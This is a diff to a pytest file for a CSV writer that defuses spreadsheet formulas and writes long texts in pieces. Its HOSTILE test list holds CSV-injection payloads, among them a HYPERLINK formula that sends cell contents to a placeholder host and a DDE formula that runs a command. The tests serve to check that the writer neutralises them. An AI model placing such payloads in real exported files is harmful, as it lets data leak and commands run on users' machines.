@@ -1,6 +1,7 @@
 """Tables and their provenance side-cars: written as a pair, formula-like texts defused."""
 
 import errno
+import io
 import json
 import os
 
@@ -9,25 +10,62 @@ import pytest
 
 from calibsim_gui.core.analysis.pairs import ScoredPairs
 from calibsim_gui.core.errors import InputError, WriteError
+from calibsim_gui.core.io import csv_writer
+from calibsim_gui.core.io.csv_writer import write_csv
 from calibsim_gui.core.io.output import check_output_path, protect_formulas, write_scored_pairs
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?q="&A1,"click")', "=cmd|' /C calc'!A0", "+1+2", "-2+3",
            "@SUM(A1:A2)", "\tTAB", "\rCR", "plain text", "a = b"]
 
 
-def scored(texts=HOSTILE):
-    frame = pd.DataFrame({"sentence1": texts, "sentence2": list(reversed(texts)),
+# texts longer than a piece once `small_pieces` makes a long text 8 characters: quotes, separators
+# and line ends on either side of a piece's end, characters of 2 and 4 UTF-8 bytes, formulas
+LONG = ['He said "stop", then left.\nAnd "so" on', "tab\there, é and 😀 " * 3, "=1+2, " * 5, "\rcarriage return",
+        "  leading spaces and a quote at the end\"", "plain words and nothing else", '"' * 11]
+
+
+def scored(texts=HOSTILE, dtype="str"):
+    frame = pd.DataFrame({"sentence1": pd.Series(texts, dtype=dtype), "sentence2": pd.Series(texts[::-1], dtype=dtype),
                           "cosine_raw": [-0.5 + i / 10 for i in range(len(texts))]})
     return ScoredPairs(frame, {"model": {"id": "fake"}})
 
 
-def test_formula_like_texts_get_a_leading_quote_and_numbers_stay(tmp_path):
-    out = write_scored_pairs(scored(), tmp_path / "s.csv")
+@pytest.fixture
+def small_pieces(monkeypatch):
+    """Texts over 8 characters are long, and written 5 characters (Arrow: bytes) at a time."""
+    monkeypatch.setattr(csv_writer, "LONG_TEXT", 8)
+    monkeypatch.setattr(csv_writer, "PIECE", 5)
+
+
+@pytest.mark.parametrize("dtype", ["str", object])
+def test_formula_like_texts_get_a_leading_quote_and_numbers_stay(tmp_path, dtype):
+    out = write_scored_pairs(scored(dtype=dtype), tmp_path / "s.csv")
     back = pd.read_csv(out, keep_default_na=False)
     assert back["sentence1"].tolist() == ["'" + t for t in HOSTILE[:7]] + HOSTILE[7:]
     assert back["cosine_raw"].tolist() == pytest.approx(scored().frame["cosine_raw"].tolist())
     protection = json.loads((tmp_path / "s.csv.provenance.json").read_text())["formula_protection"]
     assert protection["applied"] is True and protection["cells_changed"] == 14
+
+
+@pytest.mark.parametrize("dtype", ["str", object])
+@pytest.mark.parametrize(("sep", "line_end", "index"), [(",", "\n", False), ("\t", "\r\n", True)])
+def test_long_texts_are_written_byte_for_byte_as_pandas_writes_them(small_pieces, dtype, sep, line_end, index):
+    texts = LONG + ["short", "", None]
+    frame = scored(texts, dtype).frame.assign(cosine_raw=[0.1 * i if i % 4 else float("nan") for i in range(len(texts))])
+    for table in (frame, frame[["sentence1"]], frame.iloc[::-1]):
+        expected, written = io.StringIO(), io.StringIO()
+        table.to_csv(expected, sep=sep, lineterminator=line_end, index=index, float_format="%.10g")
+        write_csv(table, written, sep=sep, lineterminator=line_end, index=index, float_format="%.10g")
+        assert written.getvalue() == expected.getvalue()
+
+
+def test_a_table_with_long_texts_is_written_as_before_and_reads_back_as_it_was(small_pieces, tmp_path):
+    out = write_scored_pairs(scored(LONG), tmp_path / "s.csv")
+    protected = protect_formulas(scored(LONG).frame)[0]
+    assert out.read_bytes() == protected.to_csv(index=False, lineterminator="\r\n", float_format="%.10g").encode()
+    back = pd.read_csv(out, keep_default_na=False)
+    assert back["sentence1"].tolist() == ["'" + t if t.startswith(("=", "\r")) else t for t in LONG]
+    assert json.loads((tmp_path / "s.csv.provenance.json").read_text())["formula_protection"]["cells_changed"] == 4
 
 
 def test_keep_formulas_writes_texts_as_they_are_and_says_so(tmp_path):
